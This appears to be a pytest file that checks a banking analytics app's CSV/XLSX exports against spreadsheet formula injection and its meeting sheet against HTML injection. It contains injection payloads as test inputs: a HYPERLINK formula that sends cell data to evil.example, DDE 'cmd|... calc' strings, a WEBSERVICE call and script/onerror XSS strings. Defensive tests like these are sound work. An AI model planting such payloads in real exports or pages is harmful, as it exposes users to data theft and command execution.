"""Exports hold no formula (issue 12, item 4): text cells starting with = + - @ tab or carriage
return are neutralised in CSV and XLSX, XLSX cells are never formulas, numbers stay numbers; a
crafted RM name exported from a real page arrives as text. The meeting sheet escapes its HTML."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from analytics import store
from analytics.importer import __main__ as import_cli
from analytics.importer import pipeline
from ui import exports, meeting_sheet

APP = str(Path(__file__).resolve().parent.parent / "app.py")
ATTACKS = ["=1+1", "+1", "-1", "@x", "\t1", "\r1"]
CRAFTED_RM = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
CRAFTED_RM_EN = "+cmd|' /C calc'!A0"


def frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "text": [*ATTACKS, "张三", "1-2", " =SUM(A1)", "＝1+1", None],
            "number": [-1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11],
            "money": [-1.5, 0.0, 1e9, 2.5, 3.5, 4.5, 5.5, 6.5, 7.5, 8.5, float("nan")],
        }
    )


def cells(xlsx: bytes) -> list[list[openpyxl.cell.Cell]]:
    ws = openpyxl.load_workbook(io.BytesIO(xlsx)).active
    return [list(r) for r in ws.iter_rows()]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_xlsx_cells_are_never_formulas():
    rows = cells(exports.xlsx_bytes(frame()))
    assert [c.value for c in rows[0]] == ["text", "number", "money"]
    assert all(c.data_type != "f" for r in rows for c in r)
    for attack, (text, number, _) in zip(ATTACKS, rows[1:], strict=False):
        assert text.data_type == "s" and text.value.startswith("'"), (attack, text.value)
        assert text.value[1:] in (attack, attack.replace("\r", "\n"))  # XML reads CR as LF
        assert number.data_type == "n"
    assert rows[1][1].value == -1 and rows[1][2].value == -1.5  # numbers stay numbers
    assert [r[0].value for r in rows[7:11]] == ["张三", "1-2", "' =SUM(A1)", "'＝1+1"]
    assert rows[11][0].value is None and rows[11][2].value is None


def test_pandas_alone_would_write_a_formula():
    """Why xlsx_bytes writes cell by cell: DataFrame.to_excel stores '=1+1' as a formula."""
    buf = io.BytesIO()
    pd.DataFrame({"text": ["=1+1"]}).to_excel(buf, index=False)
    assert cells(buf.getvalue())[1][0].data_type == "f"


def test_csv_cells_are_neutralised_and_numbers_stay_numbers():
    data = exports.csv_bytes(frame())
    assert data.startswith(b"\xef\xbb\xbf")  # utf-8-sig: Chinese Excel reads it as UTF-8
    rows = csv_rows(data)
    assert [r[0] for r in rows[1:7]] == ["'" + a for a in ATTACKS]
    assert [r[0] for r in rows[7:11]] == ["张三", "1-2", "' =SUM(A1)", "'＝1+1"]
    lines = data.decode("utf-8-sig").split("\n")
    assert lines[1] == '"\'=1+1",-1,-1.5'  # the number -1 is written as a number, unquoted
    # a carriage return inside a field is quoted: it cannot end the row and start a new cell
    assert len(rows) == 1 + len(frame())


def test_headers_and_odd_values_are_neutralised():
    df = pd.DataFrame({"=cmd|' /C calc'!A0": ["a\x07b"], "when": [pd.Timestamp("2026-01-02")]})
    rows = cells(exports.xlsx_bytes(df, sheet="a/b:c*?"))
    assert rows[0][0].value == "'=cmd|' /C calc'!A0" and rows[0][0].data_type == "s"
    assert rows[1][0].value == "ab"  # a control character XML cannot hold is dropped
    assert rows[1][1].is_date
    assert csv_rows(exports.csv_bytes(df))[0][0] == "'=cmd|' /C calc'!A0"


def test_import_report_from_the_cli_is_neutralised(tmp_path):
    """The CLI's problem report quotes values from the bank's file: no formula in it either."""
    report = pipeline.ImportReport()
    report.problems = pd.DataFrame(
        {"file": ["a.csv"], "row": [2], "column": ["name_zh"], "reason": ["required"],
         "value": ["=WEBSERVICE(\"http://x\")"], "severity": ["error"]}
    )  # fmt: skip
    for name in ("report.xlsx", "report.csv"):
        import_cli.write_report(report, str(tmp_path / name), "en")
    xlsx = cells((tmp_path / "report.xlsx").read_bytes())
    assert all(c.data_type != "f" for r in xlsx for c in r)
    assert '\'=WEBSERVICE("http://x")' in [c.value for c in xlsx[1]]
    assert '\'=WEBSERVICE("http://x")' in csv_rows((tmp_path / "report.csv").read_bytes())[1]


def test_meeting_sheet_escapes_text():
    html = meeting_sheet.sheet(
        "en", "<b>title</b>", "client: <img src=x onerror=alert(1)>",
        [("h<1>", meeting_sheet.table(["<th>"], [["<script>alert(1)</script>"], ["=1+1"]]))],
        "note & <i>",
    )  # fmt: skip
    assert "<script>" not in html and "<img" not in html and "<i>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "note &amp; &lt;i&gt;" in html


# ---------------------------------------------------------------------------- a real page


@pytest.fixture
def crafted_data(demo_db_path, tmp_path, monkeypatch):
    """A data folder whose current (demo) snapshot has RMs named like formulas."""
    root = tmp_path / "data"
    copy = tmp_path / "crafted.duckdb"
    shutil.copy(demo_db_path, copy)
    con = duckdb.connect(str(copy))
    con.execute("UPDATE rms SET name_zh = ?, name_en = ?", [CRAFTED_RM, CRAFTED_RM_EN])
    con.close()
    store.publish_snapshot(copy, "demo", root)
    monkeypatch.setenv("BRANCHLENS_DATA", str(root))
    return root


@pytest.fixture
def downloads(monkeypatch):
    """File name -> the callable a download button hands its file out with (the page's own,
    audited), captured as Streamlit registers it; calling it is what a click in the browser does."""
    captured: dict[str, object] = {}
    register = MediaFileManager.add_deferred

    def spy(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        captured[file_name] = data_callable
        return register(self, data_callable, mimetype, coordinates, file_name=file_name, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add_deferred", spy)
    return captured


@pytest.mark.parametrize(
    ("lang", "rm_column", "crafted"),
    [("zh", "客户经理", CRAFTED_RM), ("en", "RM", CRAFTED_RM_EN)],
)
def test_threshold_export_with_a_crafted_rm_name_holds_no_formula(
    crafted_data, downloads, lang, rm_column, crafted
):
    at = AppTest.from_file(APP, default_timeout=120)
    at.query_params["as"] = "manager"
    at.query_params["lang"] = lang
    at.run()
    at.switch_page("pages/threshold.py")
    at.run()
    assert not at.exception
    at.button(key="th_up_export").click()
    at.run()
    assert not at.exception
    table = at.session_state["th_up_file"][1]
    assert (table[rm_column] == crafted).any()  # the page shows the name as it is
    xlsx_name = next(n for n in downloads if n.startswith("upgrade-") and n.endswith(".xlsx"))
    xlsx = cells(downloads[xlsx_name]())
    assert [c.coordinate for r in xlsx for c in r if c.data_type == "f"] == []
    header = [c.value for c in xlsx[0]]
    rm_cells = {r[header.index(rm_column)].value for r in xlsx[1:]}
    assert "'" + crafted in rm_cells and crafted not in rm_cells
    rows = csv_rows(downloads[xlsx_name.removesuffix(".xlsx") + ".csv"]())
    rm_cells = {r[rows[0].index(rm_column)] for r in rows[1:]}
    assert "'" + crafted in rm_cells and crafted not in rm_cells
